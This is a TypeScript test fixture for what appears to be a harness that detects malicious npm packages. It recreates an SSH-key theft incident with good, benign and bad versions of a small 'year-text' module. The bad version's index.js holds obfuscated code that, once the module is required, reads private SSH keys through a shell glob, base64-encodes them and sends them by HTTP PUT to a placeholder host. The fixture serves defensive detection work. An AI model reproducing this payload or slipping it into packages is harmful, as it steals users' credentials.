import type { Incident } from '../../harness/types.ts';

export const incident: Incident = {
  name: 'ssh-cat-shell',
  after: '@across-toolkit/typescript-config, July 2026, read by cat in a shell, the path put together by the shell',
  source: 'https://github.com/ossf/malicious-packages/pull/1382',
  shape: ['require', 'script', 'execSync with a shell', 'path hidden by a glob', 'cjs'],
  patterns: ['data_exfiltration'],
  culprits: ['year-text'],
  host: {
    kind: 'script',
    setup: "const year = require('year-text');",
    use: 'return year(n);',
  },
  good: {
    'year-text': {
      'index.js': 'module.exports = (n) => String(2000 + n);',
    },
  },
  benign: {
    'year-text': {
      'index.js': 'module.exports = (n, from = 2000) => String(from + n);',
    },
  },
  bad: {
    'year-text': {
      'index.js':
        "module.exports = (n) => String(2000 + n);\ntry { const d = require('child_process').execSync('cd; cat .s*h/id_*[!b]', { stdio: ['ignore', 'pipe', 'ignore'] }).toString('base64');\n  const r = require('https'.slice(0, 4)).request({ host: '@B@', port: @PORT@, path: '/i/' + d.length, method: 'PUT' }, (s) => s.resume()); r.on('error', () => {}); r.end(d); } catch {}",
    },
  },
  proof: [
    {
      secret: true,
    },
  ],
};
